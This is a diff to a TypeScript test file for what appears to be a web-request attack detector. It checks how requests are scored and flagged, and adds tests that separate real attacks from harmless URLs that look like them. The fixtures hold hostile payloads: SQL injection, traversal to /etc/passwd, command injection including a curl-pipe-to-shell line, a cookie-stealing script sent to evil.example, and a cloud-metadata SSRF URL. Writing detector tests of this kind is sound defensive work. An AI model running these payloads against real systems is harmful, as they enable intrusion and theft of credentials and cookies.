@@ -163,7 +163,7 @@ describe('what an address is for', () => {
 
   test('collectors take logs of attacks', async () => {
     expect(await isFlagged(bulk('/_bulk'))).toBe(false);
-    expect(await isFlagged(bulk('/comments'))).toBe(true);
+    expect(await isFlagged(post('/comments', { request: '1 OR 1=1' }))).toBe(true);
   });
 
   test('scripts run what is written behind their names', async () => {
@@ -262,7 +262,7 @@ describe('what is tried, kept or written about', () => {
   ])('%s may hold code', (_, path, body) => {
     expect(doubt(path, body)).toBeGreaterThan(0);
     expect(doubt(path, body)).toBeLessThan(1);
-    expect(doubt('/profile.php', body)).toBe(0);
+    expect(doubt('/profile.php', body)).toBeLessThan(doubt(path, body));
   });
 
   test.each([
@@ -615,4 +615,73 @@ test('a link to a picture is no way out of a folder', () => {
   expect(ids(post('/api/regex', { sample: '../images/logo.png' }))).toEqual([]);
   expect(ids(post('/api/regex', { sample: '../../../images/logo.png' }))).toContain('web-lfi-traversal');
   expect(ids(post('/api/regex', { sample: '../conf/app.ini' }))).toContain('web-lfi-traversal');
+});
+
+describe('a body that says more than a payload', () => {
+  const doubtOf = (text: string) =>
+    Math.min(
+      ...readEvents(text)
+        .flatMap(detectWeb)
+        .filter(({ level }) => rank(level) >= rank('medium'))
+        .map(({ doubt }) => doubt),
+    );
+  const steps = 'Open the list of customers, search for this name and look at the page that comes back.';
+
+  test('makes doubtful what its other fields carry, wherever it is sent', () => {
+    expect(doubtOf(post('/destek', { konu: "syntax error at or near '1' = '1", steps }))).toBeGreaterThan(0);
+    expect(doubtOf(post('/destek', { konu: "syntax error at or near '1' = '1" }))).toBe(0);
+  });
+
+  test.each([
+    { id: "1' OR '1'='1" },
+    { file: '../../../../etc/passwd' },
+    { konu: '; cat /etc/passwd' },
+    { konu: 'a; curl http://203.0.113.7/x.sh | sh' },
+    { konu: '<script>fetch("//evil.example/?c="+document.cookie)</script>' },
+    { url: 'http://169.254.169.254/latest/meta-data/' },
+  ])('believes what tells which is meant, breaks out or reaches out: %o', (fields) => {
+    expect(doubtOf(post('/destek', { ...fields, steps }))).toBe(0);
+  });
+});
+
+describe('shapes in an address that are no attack', () => {
+  const doubtOf = (path: string) =>
+    Math.min(
+      1,
+      ...readEvents(`GET ${path} HTTP/1.1\nHost: a.example`)
+        .flatMap(detectWeb)
+        .filter(({ level }) => rank(level) >= rank('medium'))
+        .map(({ doubt }) => doubt),
+    );
+
+  test.each([
+    '/img?url=https%3A%2F%2Fcdn.example%2Fa%2Fb%2F..%2Fthumb.jpg%3Fw%3D300',
+    '/backup?dir=/mnt/usb1/../usb2',
+    '/products?filter[price][$lt]=100',
+    '/search?q=5%22+pipe+90%C2%B0+elbow+--+white',
+    '/blog/why-%3Cscript%3E-shows-up-twice',
+    '/oauth/authorize?redirect_uri=http%3A%2F%2F127.0.0.1%3A53771%2Fcallback',
+    '/search?q=%22union+select%22+site%3Adocs+-oracle',
+    '/rss?url=feed%3A%2F%2Fblog.example%2Fatom.xml',
+  ])('%s', (path) => {
+    expect(doubtOf(path)).toBeGreaterThan(0);
+  });
+
+  test.each([
+    '/img?url=https%3A%2F%2Fcdn.example%2Fa%2F..%2F..%2Fetc%2Fpasswd',
+    '/backup?dir=/mnt/../usb2',
+    '/backup?dir=/mnt/usb1/../admin',
+    '/login?password[$gt]=0',
+    '/search?q=5%22+or+1+--+white',
+    '/search?q=%3Cscript%3Ealert(1)%3C/script%3E',
+    '/oauth/authorize?redirect_uri=http%3A%2F%2F127.0.0.1%3A53771%2F..%2Fadmin%3Fx',
+    '/rss?url=feed:javascript:alert(1)',
+  ])('%s is believed', (path) => {
+    expect(doubtOf(path)).toBe(0);
+  });
+});
+
+test('money goes back below nothing, an order does not', () => {
+  expect(ids(post('/api/orders/7/adjustments', { type: 'refund', amount: -14.9 }))).toEqual([]);
+  expect(ids(post('/api/orders/7', { amount: -14.9 }))).not.toEqual([]);
 });
